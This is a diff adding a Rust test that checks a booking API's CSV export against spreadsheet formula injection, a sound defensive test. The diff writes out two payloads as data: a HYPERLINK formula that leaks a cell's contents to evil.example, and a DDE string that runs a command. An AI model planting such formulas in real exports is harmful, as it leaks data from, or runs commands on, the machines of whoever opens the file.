@@ -239,13 +239,30 @@ async fn settle_and_reverse(app: &TestApp, voucher: i64, booking: i64) {
         fudan.body["totals"],
         json!([{"issuer_province": "JS", "provider_province": "SH", "amount_fen": 22_500, "lines": 1}])
     );
+    // Names that a spreadsheet would run as formulas reach the CSV as plain text.
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    rename_resource(&app, &m, line["resource_id"].as_i64().unwrap(), evil).await;
+    let admin = app.login(ADMIN).await;
+    let acme = format!("/api/v1/organizations/{}", line["enterprise_id"]);
+    let renamed = app
+        .request(
+            Method::PATCH,
+            &acme,
+            Some(&admin),
+            Some(json!({"name_en": "@SUM(1+1)*cmd|' /C calc'!A0"})),
+        )
+        .await;
+    assert_eq!(renamed.status, StatusCode::OK, "{:?}", renamed.body);
     let csv = app.get(&format!("{period}&format=csv"), &m).await;
     let text = csv.body.as_str().unwrap().to_owned();
     assert!(
-        text.starts_with("entry_id,at,kind,amount_fen,booking_id"),
+        text.starts_with("\u{feff}entry_id,at,kind,amount_fen,booking_id"),
         "{text}"
     );
     assert!(text.contains(",total,22500,"), "{text}");
+    let cells = crate::exports::cells(&text);
+    assert!(cells.iter().any(|c| c == &format!("'{evil}")), "{text}");
+    crate::exports::assert_no_formula(&cells);
     assert_eq!(app.get(&period, &t).await.status, StatusCode::FORBIDDEN);
     let sh_issuer = app.login(ISSUER).await;
     assert_eq!(
@@ -628,3 +645,18 @@ on_both_backends!(
     bad_payment_requests_are_refused_precisely,
     holds_are_released_when_bookings_end_unused
 );
+
+async fn rename_resource(app: &TestApp, manager: &str, id: i64, name: &str) {
+    let path = format!("/api/v1/resources/{id}");
+    let etag = app.get(&path, manager).await.header("etag").unwrap();
+    let resp = app
+        .request_with(
+            Method::PATCH,
+            &path,
+            Some(manager),
+            Some(json!({"name_en": name})),
+            &[("If-Match", &etag)],
+        )
+        .await;
+    assert_eq!(resp.status, StatusCode::OK, "{:?}", resp.body);
+}
